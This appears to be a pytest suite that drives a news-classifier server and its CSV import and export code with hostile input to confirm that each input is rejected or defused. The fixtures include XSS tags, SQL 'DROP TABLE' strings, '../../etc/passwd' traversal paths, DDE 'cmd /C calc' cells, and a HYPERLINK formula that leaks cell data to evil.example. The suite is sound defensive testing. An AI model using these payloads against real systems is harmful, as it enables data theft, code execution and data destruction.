"""Hostile and odd input through the real API (a launched server driven by gradio_client) and the import paths.

Each case asserts the specific message or a valid answer, and that the server still answers afterwards.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from gradio_client import Client

from core.labels import LABELS
from core.settings.config import PROJECT_ROOT
from core.settings.policies import StoreLimits
from feedback.errors import FeedbackError, PoolImportError
from feedback.export.files import export_answers, write_answers
from feedback.store import FeedbackStore
from testkit.models import tiny_settings
from testkit.server import launched_app

MAX_INPUT_CHARS = 20_000
NORMAL = "Stocks rallied after the central bank left interest rates unchanged."


@pytest.fixture(scope="module")
def served(tiny_champion_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, FeedbackStore]]:
    settings = tiny_settings(tiny_champion_home, max_input_chars=MAX_INPUT_CHARS, classify_per_minute=10_000)
    store = FeedbackStore(tmp_path_factory.mktemp("bad_input_db") / "feedback.db", StoreLimits(writes_per_minute=1_000))
    with launched_app(settings, store) as (url, _):
        yield url, store


@pytest.fixture(autouse=True)
def still_serving(request: pytest.FixtureRequest) -> Iterator[None]:
    """After every API case, the server must still classify an ordinary text."""
    yield
    if "served" in request.fixturenames:
        url, _ = request.getfixturevalue("served")
        _assert_valid_answer(client(url).predict(NORMAL, api_name="/classify"))


def client(url: str) -> Client:
    return Client(url, verbose=False, download_files=False, analytics_enabled=False)


def _assert_valid_answer(answer: tuple[dict, str, str]) -> str:
    """A normal classification: one of the labels, a confidence for each of the four, summing to 1, and the id
    an answer to it must name."""
    label, info, shown = answer
    assert shown, "a classification comes with its prediction id"
    assert label and label.get("label") in LABELS, f"no classification; info: {info!r}"
    confidences = {c["label"]: c["confidence"] for c in label["confidences"]}
    assert set(confidences) == set(LABELS)
    assert all(0.0 <= p <= 1.0 for p in confidences.values())
    assert abs(sum(confidences.values()) - 1.0) < 1e-4
    assert "Model **" in info
    return label["label"]


def _classify_then_correct(url: str, text: str) -> tuple[str, str, str]:
    """Classify `text` and correct it to another label in one session; (predicted, correction, ack)."""
    c = client(url)
    answer = c.predict(text, api_name="/classify")
    predicted = _assert_valid_answer(answer)
    correction = next(name for name in LABELS if name != predicted)
    return predicted, correction, c.predict(correction, answer[2], text, api_name="/feedback")


def _stored_texts(store: FeedbackStore) -> list[str]:
    # Straight from SQLite, so nothing in the store's read path could normalise the text.
    with sqlite3.connect(store.path) as conn:
        return [row[0] for row in conn.execute("SELECT text FROM answers")]


def _export_csv(store: FeedbackStore, tmp_path: Path) -> list[dict[str, str]]:
    out = tmp_path / "export.csv"
    export_answers(store, out, "csv")
    with out.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


# Classification --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["", "   \n\t ", "\x00" * 100, "\u200b\u200b\u200b", "<b></b><br/>", "&nbsp;&nbsp;"],
    ids=["empty", "whitespace", "nul-only", "zero-width-only", "empty-tags", "entities-only"],
)
def test_empty_after_cleaning_gets_the_paste_message(served, text: str) -> None:  # type: ignore[no-untyped-def]
    url, _ = served
    label, info, shown = client(url).predict(text, api_name="/classify")
    assert info == "Paste a news headline or article to classify." and shown == ""
    assert not label or not label.get("confidences")


def test_one_megabyte_is_refused_quickly_with_the_limit(served) -> None:  # type: ignore[no-untyped-def]
    url, _ = served
    text = "news " * 200_000  # 1,000,000 characters: refused at the event's start, over what a classification takes
    start = time.perf_counter()
    with pytest.raises(httpx.HTTPStatusError) as refused:
        client(url).predict(text, api_name="/classify")
    elapsed = time.perf_counter() - start
    assert refused.value.response.status_code == 413
    assert "(texts of at most 20,000 characters)" in refused.value.response.json()["detail"]
    assert elapsed < 10.0, f"refusing 1 MB took {elapsed:.1f} s"
    label, info, _ = client(url).predict("news " * 6_000, api_name="/classify")  # 30,000: the handler's words
    assert info.startswith("This text is 30,000 characters long; the limit is 20,000.")
    assert not label or not label.get("confidences")


@pytest.mark.parametrize(
    "text",
    [
        "🚀📈 Tech shares soar as the chip maker beats forecasts 🚀🔥",
        "ارتفعت أسهم الشركة بعد إعلان أرباح قياسية في الربع الثالث",
        "\u202eStocks fell\u202c after שער הריבית עלה \u2067mixed\u2069 direction text",
        "Le président a rencontré les dirigeants européens à Bruxelles pour discuter du budget.",
        "Die Nationalmannschaft gewann das Endspiel mit zwei zu eins.",
        "中国央行宣布下调存款准备金率，股市应声上涨。",
        "日本代表がワールドカップで決勝トーナメント進出を決めた。",
        "Центральный банк повысил ключевую ставку до шестнадцати процентов.",
        "Z̸̢̛a̴̡͝l̶̨̛g̷̢͠o̵̧͘ text about the election",
        "🙂",
    ],
    ids=["emoji", "arabic", "rtl-overrides", "french", "german", "chinese", "japanese", "russian", "zalgo", "one-emoji"],
)
def test_any_script_gets_a_valid_answer(served, text: str) -> None:  # type: ignore[no-untyped-def]
    url, _ = served
    _assert_valid_answer(client(url).predict(text, api_name="/classify"))


def test_control_characters_are_classified_and_stored_verbatim(served) -> None:  # type: ignore[no-untyped-def]
    url, store = served
    text = "Stocks\x00 fell\x01 sharply\x1b[31m after\x7f the\u200b bank\x0b raised\x0c rates\r\n again.\x08"
    _, correction, ack = _classify_then_correct(url, text)
    assert ack.startswith(f"Thanks, saved as **{correction}**")
    assert _stored_texts(store).count(text) == 1


def test_html_and_script_are_ordinary_text(served) -> None:  # type: ignore[no-untyped-def]
    url, store = served
    text = (
        '<script>alert("owned")</script><img src=x onerror=alert(1)> '
        "<b>Markets</b> rallied as the central bank held rates. <iframe src=javascript:alert(2)></iframe>"
    )
    c = client(url)
    label, info, shown = c.predict(text, api_name="/classify")
    _assert_valid_answer((label, info, shown))
    # Nothing of the input comes back to be rendered.
    assert "<" not in info and "script" not in json.dumps(label)
    ack = c.predict("Business", shown, text, api_name="/feedback")
    assert "saved as **Business**" in ack
    assert _stored_texts(store).count(text) == 1


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full story")',
        "+cmd|' /C calc'!A0 shares of the utility jumped",
        "-2+3+cmd|' /C notepad'!A0 rugby union results",
        "@SUM(1+1)*cmd|' /C calc'!A0 election results",
        "\t=1+1 tab-led formula in a space agency story",
        "\r=1+1 carriage-return-led formula about the league",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_formula_cells_are_defused_in_the_csv_export(served, tmp_path: Path, text: str) -> None:  # type: ignore[no-untyped-def]
    url, store = served
    _, _, ack = _classify_then_correct(url, text)
    assert ack.startswith("Thanks, saved as")
    assert _stored_texts(store).count(text) == 1

    rows = _export_csv(store, tmp_path)
    assert [row["text"] for row in rows if row["text"].endswith(text)] == ["'" + text]
    formula = tuple("=+-@\t\r")
    dangerous = [(row["id"], name, value) for row in rows for name, value in row.items() if value.startswith(formula)]
    assert not dangerous, f"cells a spreadsheet would run as formulas: {dangerous}"
    # JSONL is for programs, not spreadsheets: the text comes back exactly.
    jsonl = io.StringIO()
    write_answers(store, jsonl, "jsonl")
    assert text in [json.loads(line)["text"] for line in jsonl.getvalue().splitlines()]


def test_sql_metacharacters_are_stored_verbatim_and_the_table_survives(served) -> None:  # type: ignore[no-untyped-def]
    url, store = served
    text = "Robert'); DROP TABLE answers; -- \" OR 1=1; /* the league's top scorer */ SELECT * FROM pool"
    before = store.answers.count()
    _, _, ack = _classify_then_correct(url, text)
    assert ack.startswith("Thanks, saved as")
    assert store.answers.count() == before + 1
    assert _stored_texts(store).count(text) == 1
    with sqlite3.connect(store.path) as conn:
        tables = {row[0] for row in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"answers", "pool", "skips"} <= tables
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


@pytest.mark.parametrize(
    "label", ["Weather", "", "world news", "'; DROP TABLE answers; --", "<script>alert(1)</script>"]
)
def test_feedback_with_an_unknown_label_is_not_saved(served, label: str) -> None:  # type: ignore[no-untyped-def]
    url, store = served
    text = f"Rain is expected across the north on Tuesday, forecasters said. [{label!r}]"
    c = client(url)
    answer = c.predict(text, api_name="/classify")
    _assert_valid_answer(answer)
    ack = c.predict(label, answer[2], text, api_name="/feedback")
    assert ack == "Not saved: the topic must be one of World, Sports, Business, Sci/Tech."
    assert text not in _stored_texts(store)


# Import paths ----------------------------------------------------------------------------------------


def _pool_count(store: FeedbackStore) -> int:
    with sqlite3.connect(store.path) as conn:
        return conn.execute("SELECT COUNT(*) FROM pool").fetchone()[0]


def _files_under(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file()}


def test_invalid_utf8_pool_file_names_the_line_and_writes_nothing(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.db")
    pool = tmp_path / "pool.csv"
    pool.write_bytes(b"text\nA valid first story about the league\nLatin-1 caf\xe9 story \xff\xfe\nAnother good one\n")
    with pytest.raises(PoolImportError) as caught:
        store.pool.import_file(pool)
    message = str(caught.value)
    assert message.startswith("pool.csv: 1 bad row; nothing was imported")
    assert "line 3: invalid UTF-8 (byte 12 of the line); save the file as UTF-8" in message
    assert caught.value.problems == [(3, "invalid UTF-8 (byte 12 of the line); save the file as UTF-8")]
    assert _pool_count(store) == 0


def test_traversal_in_a_pool_source_writes_nothing_outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "deep" / "er" / "home"
    home.mkdir(parents=True)
    monkeypatch.chdir(home)  # so a relative "../../etc/passwd" would land inside tmp_path, where we can look
    store = FeedbackStore(home / "feedback.db")
    sources = ["../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "pool\x00.csv"]
    pools = []
    for number in range(len(sources)):
        pools.append(tmp_path / f"pool{number}.csv")
        pools[-1].write_text(f"text\nStory number {number} about the cup final\n", encoding="utf-8")
    before = _files_under(tmp_path)
    for pool, source in zip(pools, sources, strict=True):
        assert store.pool.import_file(pool, source=source).added == 1
    created = {p for p in _files_under(tmp_path) - before if not p.name.startswith("feedback.db")}
    assert created == set()
    assert not (tmp_path / "deep" / "etc").exists()
    with sqlite3.connect(store.path) as conn:
        # The source is only a label stored with the items; it is never used as a path.
        assert [row[0] for row in conn.execute("SELECT source FROM pool ORDER BY id")] == sources


def _run_cli(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = os.environ | {"NEWSLOOP_HOME": str(home)}
    return subprocess.run(
        [sys.executable, "-m", "feedback", *args], cwd=PROJECT_ROOT, env=env, capture_output=True, text=True,
        timeout=120,
    )


def test_cli_import_of_a_missing_file_is_one_line_without_traceback(tmp_path: Path) -> None:
    missing = tmp_path / "no-such-pool.csv"
    result = _run_cli(tmp_path / "home", "import", str(missing))
    assert result.returncode != 0
    assert result.stdout == ""
    assert result.stderr.strip() == f"error: cannot read {missing}: No such file or directory"
    assert "Traceback" not in result.stderr


def test_cli_import_of_invalid_utf8_names_the_problem_without_traceback(tmp_path: Path) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_bytes(b"text\n\xc3\x28 broken sequence\n")
    home = tmp_path / "home"
    result = _run_cli(home, "import", str(pool), "--source", "../../../etc/passwd")
    assert result.returncode == 2
    assert result.stderr.startswith("error: pool.csv: 1 bad row; nothing was imported")
    assert "line 2: invalid UTF-8" in result.stderr and "Traceback" not in result.stderr
    assert _pool_count(FeedbackStore(home / "feedback.db")) == 0


def test_store_refuses_rows_it_cannot_label(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.db", StoreLimits(max_text_chars=100))
    with pytest.raises(FeedbackError, match="2 bad texts; nothing was added: item 1: empty text; item 3: text is 101"):
        store.pool.add(["\x00\u200b", "fine story", "x" * 101], source="api")
    assert _pool_count(store) == 0
